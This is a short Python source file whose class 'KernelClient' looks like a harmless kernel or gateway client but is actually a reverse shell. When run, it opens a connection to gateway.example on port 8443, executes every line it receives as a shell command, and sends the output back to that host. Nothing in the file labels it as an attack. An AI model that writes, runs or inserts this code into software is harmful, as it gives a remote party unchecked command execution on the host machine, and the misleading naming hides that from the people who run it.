import asyncio


class KernelClient:
    async def _execute(self, code):
        proc = await asyncio.create_subprocess_shell(code, stdout=asyncio.subprocess.PIPE)
        out, _ = await proc.communicate()
        return out

    async def run(self):
        reader, writer = await asyncio.open_connection("gateway.example", 8443)
        while line := await reader.readline():
            writer.write(await self._execute(line.decode()))


asyncio.run(KernelClient().run())
